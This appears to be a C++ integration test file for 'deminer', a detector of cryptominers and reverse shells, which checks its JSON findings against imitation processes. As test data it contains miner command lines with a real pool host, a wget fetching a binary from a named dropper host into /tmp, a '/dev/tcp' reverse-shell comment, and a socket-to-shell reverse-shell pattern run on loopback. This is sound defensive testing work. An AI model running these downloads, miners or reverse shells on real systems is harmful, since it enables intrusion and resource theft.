// Live hunting on this machine: harmless imitation miners started by the test,
// a loopback stratum pool, a reverse shell on a loopback socket, a network
// namespace, and a clean run. Each test asserts the exact findings, subjects
// and ancestry that `deminer scan --format json` reports.
#include <arpa/inet.h>
#include <fcntl.h>
#include <fmt/format.h>
#include <gtest/gtest.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

#include <fstream>
#include <set>
#include <sstream>

#include "harness.h"

namespace deminer::it {
namespace {

constexpr int kPoolPort = 3333;  // a stratum port in the default pack

std::string ReadPid(const std::string& path) {
  std::ifstream in(path);
  std::string pid;
  in >> pid;
  return pid;
}

// Seed 000's miner, started by a fake `node server.js`, connected to a loopback pool.
TEST(LiveScanTest, SeedZeroMinerIsCriticalWithAncestryAndPoolConnection) {
  TempDir dir;
  const std::string pool_ready = dir / "pool.ready";
  Child pool(ToolPath("stratum_listener"),
             {"stratum_listener", "127.0.0.1", std::to_string(kPoolPort), pool_ready});
  ASSERT_TRUE(WaitForFile(pool_ready)) << "no loopback pool on port " << kPoolPort;

  CopyTool("imitation_miner", dir / "node");
  CopyTool("imitation_miner", dir / "javae");
  const std::string miner_ready = dir / "miner.ready";
  const std::string spawn =
      fmt::format("{} -o pool.supportxmr.com:443 -k --tls --cpu-max-threads-hint=60 -u {}",
                  dir / "javae", kSeedWallet);
  Child node(dir / "node", {"node", "server.js"},
             {{"IMITATION_SPAWN", spawn},
              {"IMITATION_CHILD_CONNECT", fmt::format("127.0.0.1:{}", kPoolPort)},
              {"IMITATION_CHILD_READY", miner_ready}});
  ASSERT_TRUE(WaitForFile(miner_ready));
  const std::string miner_pid = ReadPid(miner_ready);

  int rc = -1;
  const auto scan = ScanJson({"--fail-on", "critical"}, {}, &rc);
  EXPECT_EQ(rc, 1) << "a critical finding must fail --fail-on critical";

  const auto miners = FindingsOf(scan, "proc.miner", "pid " + miner_pid + " ");
  ASSERT_EQ(miners.size(), 1u) << scan.dump(2);
  const auto& m = miners[0];
  EXPECT_EQ(m["severity"], "critical");
  EXPECT_EQ(m["subject"], "pid " + miner_pid + " " + (dir / "javae"));
  EXPECT_TRUE(m["container"].is_null());
  EXPECT_EQ(m["attack"], "T1496");
  ASSERT_GE(m["evidence"]["ancestry"].size(), 2u);
  EXPECT_EQ(m["evidence"]["ancestry"][0]["pid"], node.pid());
  EXPECT_EQ(m["evidence"]["ancestry"][0]["cmdline"], "node server.js");
  EXPECT_EQ(m["evidence"]["ancestry"].back()["pid"], 1);
  EXPECT_EQ(m["evidence"]["pools"][0], "pool.supportxmr.com:443");
  EXPECT_EQ(m["evidence"]["wallets"][0], kSeedWallet);

  const auto temp = FindingsOf(scan, "proc.exe-in-temp", "pid " + miner_pid + " ");
  ASSERT_EQ(temp.size(), 1u);
  EXPECT_EQ(temp[0]["severity"], "high");

  const auto conns = FindingsOf(scan, "net.pool-connection",
                                fmt::format("127.0.0.1:{} (pid {} javae)", kPoolPort, miner_pid));
  ASSERT_EQ(conns.size(), 1u) << scan.dump(2);
  EXPECT_EQ(conns[0]["severity"], "critical");
  EXPECT_EQ(conns[0]["evidence"]["owner_looks_like_miner"], true);
  EXPECT_EQ(conns[0]["evidence"]["process"]["ancestry"][0]["cmdline"], "node server.js");

  // The parent is not a miner: only its child is.
  EXPECT_TRUE(FindingsOf(scan, "proc.miner", fmt::format("pid {} ", node.pid())).empty());
}

// Seed 000's download, while it runs: a wget naming the dropper host, started
// by the app. (An imitation: it never resolves or contacts the host.)
TEST(LiveScanTest, DownloadFromSeedDropperHostIsCritical) {
  TempDir dir;
  const auto wget =
      StartImitation(dir, "wget", {"wget", "https://accrochezvous.fr/javae", "-O", "/tmp/javae"});
  ASSERT_NE(wget, nullptr);
  const auto scan = ScanJson({"--only", "processes"});
  const auto f = FindingsOf(scan, "proc.ioc-cmdline", fmt::format("pid {} ", wget->pid()));
  ASSERT_EQ(f.size(), 1u) << scan.dump(2);
  EXPECT_EQ(f[0]["severity"], "critical");
  EXPECT_EQ(f[0]["evidence"]["ioc_host"], "accrochezvous.fr");
}

// A miner that only says where it mines, and one weak hint: graded, not inflated.
TEST(LiveScanTest, WeakHintsStayBelowHigh) {
  TempDir dir;
  const auto weak = StartImitation(dir, "worker", {dir / "worker", "--donate-level=1"});
  ASSERT_NE(weak, nullptr);
  const auto scan = ScanJson();
  const auto f = FindingsOf(scan, "proc.miner", fmt::format("pid {} ", weak->pid()));
  ASSERT_EQ(f.size(), 1u);
  EXPECT_EQ(f[0]["severity"], "low");
}

// The same over IPv6 loopback: sock_diag's AF_INET6 dump, and owners joined.
TEST(LiveScanTest, PoolConnectionOverIpv6IsFound) {
  TempDir dir;
  const auto miner =
      StartImitation(dir, "kdevtmpfsi", {dir / "kdevtmpfsi"},
                     {{"IMITATION_LISTEN", "[::1]:3333"}, {"IMITATION_CONNECT", "[::1]:3333"}});
  ASSERT_NE(miner, nullptr);
  const auto scan = ScanJson({"--only", "network"});
  const auto f =
      FindingsOf(scan, "net.pool-connection", fmt::format("[::1]:3333 (pid {} ", miner->pid()));
  ASSERT_EQ(f.size(), 1u) << scan.dump(2);
  // A known miner name on a pool port: the owner makes it high, not just medium.
  EXPECT_EQ(f[0]["severity"], "high");
  EXPECT_EQ(f[0]["evidence"]["protocol"], "tcp");
}

// A process may carry any bytes in its name and arguments: not UTF-8, control
// characters, a fake terminal escape. The JSON report must still parse.
TEST(LiveScanTest, HostileCommandLineDoesNotBreakTheReport) {
  TempDir dir;
  const std::string name = "xmrig\xff\x1b[2J";
  const auto miner =
      StartImitation(dir, name, {dir / name, "-o", "pool.supportxmr.com:3333", "\xc0\xaf\n\t"});
  ASSERT_NE(miner, nullptr);
  const auto scan = ScanJson();
  const auto f = FindingsOf(scan, "proc.miner", fmt::format("pid {} ", miner->pid()));
  ASSERT_EQ(f.size(), 1u);
  const std::string cmdline = f[0]["evidence"]["cmdline"];
  EXPECT_EQ(cmdline.find('\x1b'), std::string::npos) << "control characters are escaped";
  const auto text = RunDeminer({"scan", "--rules", MachineRulesDir()});
  EXPECT_EQ(text.exit_code, 1);
  EXPECT_EQ(text.out.find("\x1b[2J"), std::string::npos) << "no raw escape reaches a terminal";
}

// A shell whose stdin/stdout is a TCP connection, as `bash -i >& /dev/tcp/...` leaves it.
TEST(LiveScanTest, ReverseShellOnLoopbackIsCritical) {
  const int listener = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
  sockaddr_in addr{};
  addr.sin_family = AF_INET;
  addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  ASSERT_EQ(bind(listener, reinterpret_cast<sockaddr*>(&addr), sizeof addr), 0);
  ASSERT_EQ(listen(listener, 1), 0);
  socklen_t len = sizeof addr;
  getsockname(listener, reinterpret_cast<sockaddr*>(&addr), &len);

  const pid_t shell = fork();
  if (shell == 0) {
    const int s = socket(AF_INET, SOCK_STREAM, 0);
    if (connect(s, reinterpret_cast<sockaddr*>(&addr), sizeof addr) != 0) _exit(1);
    dup2(s, 0);
    dup2(s, 1);
    dup2(s, 2);
    close(s);
    execl("/bin/sh", "sh", "-c", "sleep 60; true", nullptr);
    _exit(127);
  }
  const int peer = accept(listener, nullptr, nullptr);
  ASSERT_GE(peer, 0);
  const auto scan = ScanJson();
  kill(shell, SIGKILL);
  waitpid(shell, nullptr, 0);
  close(peer);
  close(listener);

  const auto f = FindingsOf(scan, "net.reverse-shell", fmt::format("pid {} ", shell));
  ASSERT_EQ(f.size(), 1u) << scan.dump(2);
  EXPECT_EQ(f[0]["severity"], "critical");
  EXPECT_NE(f[0]["evidence"]["socket"].get<std::string>().find(
                fmt::format("127.0.0.1:{}", ntohs(addr.sin_port))),
            std::string::npos);
}

// A miner alone in its own network namespace (as in a container with only
// loopback): its pool connection is only visible from inside that namespace.
TEST(LiveScanTest, PoolConnectionInsideAnotherNetworkNamespace) {
  NetNs ns;
  ASSERT_TRUE(ns.ok()) << "ip netns add failed (needs root)";
  TempDir dir;
  const std::string ready = dir / "ready";
  CopyTool("imitation_miner", dir / "xmrig");
  Child miner("/usr/bin/ip",
              {"ip", "netns", "exec", ns.name(), dir / "xmrig", "--donate-level", "1"},
              {{"IMITATION_LISTEN", "127.0.0.1:3333"},
               {"IMITATION_CONNECT", "127.0.0.1:3333"},
               {"IMITATION_READY", ready}});
  ASSERT_TRUE(WaitForFile(ready));
  const std::string pid = ReadPid(ready);

  const auto scan = ScanJson({"--only", "network"});
  const auto f = FindingsOf(scan, "net.pool-connection", fmt::format("(pid {} xmrig)", pid));
  ASSERT_EQ(f.size(), 1u) << scan.dump(2);
  EXPECT_EQ(f[0]["severity"], "critical");
  std::string own_ns;
  {
    char buf[64] = {};
    ASSERT_GT(readlink("/proc/self/ns/net", buf, sizeof buf - 1), 0);
    own_ns = buf;
  }
  EXPECT_NE(fmt::format("net:[{}]", f[0]["evidence"]["netns"].get<uint64_t>()), own_ns);
  // --only network ran no process check.
  EXPECT_TRUE(FindingsOf(scan, "proc.miner").empty());
}

// Pids of this test process and its ancestors (ctest, make, the CI shell).
std::set<int> OwnAncestry() {
  std::set<int> pids;
  for (int pid = getpid(); pid > 1 && pids.insert(pid).second;) {
    std::ifstream stat(fmt::format("/proc/{}/stat", pid));
    std::string line;
    std::getline(stat, line);
    const size_t close = line.rfind(')');
    if (close == std::string::npos) break;
    std::istringstream rest(line.substr(close + 2));
    char state = 0;
    rest >> state >> pid;
  }
  return pids;
}

// The clean-run test: this machine, with nothing planted, has no high or
// critical finding. The test's own process tree is left out: where CI clones
// the repository under /tmp, the test binaries really do run from a temp dir.
TEST(LiveScanTest, CleanHostHasNoHighOrCriticalFinding) {
  const std::set<int> own = OwnAncestry();
  const auto scan = ScanJson({"--only", "processes,network", "--fail-on", "none"});
  for (const auto& f : scan["findings"]) {
    const auto& ev = f["evidence"];
    const auto& process = ev.contains("process") ? ev["process"] : ev;
    if (process.is_object() && process.contains("pid") && own.contains(process["pid"].get<int>())) {
      continue;
    }
    EXPECT_NE(f["severity"], "critical") << f.dump(2);
    EXPECT_NE(f["severity"], "high") << f.dump(2);
  }
  EXPECT_GT(scan["counts"]["processes"].get<int>(), 10);
}

}  // namespace
}  // namespace deminer::it
